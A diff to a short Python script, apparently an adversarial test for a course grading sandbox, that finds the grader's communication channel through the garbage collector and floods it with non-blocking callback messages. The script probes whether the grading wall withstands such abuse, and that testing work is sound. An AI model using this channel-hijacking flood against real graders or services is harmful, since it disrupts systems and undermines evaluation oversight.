@@ -4,14 +4,11 @@ what: Sends callbacks without end and without waiting for an answer, so that dat
 
 import gc
 import os
-import socket
 import struct
 
 from course_lib.grading.wall.codec import encode
 
-wire = next(
-    found.fileno() for found in gc.get_objects() if type(found) is socket.socket and found.fileno() > 2
-)
+wire = next(found._socket.fileno() for found in gc.get_objects() if type(found).__name__ == "Channel")
 os.set_blocking(wire, False)
 data = encode(("callback", 10**9, "call", (), {}, ""))
 one = struct.pack("<Q", len(data)) + data
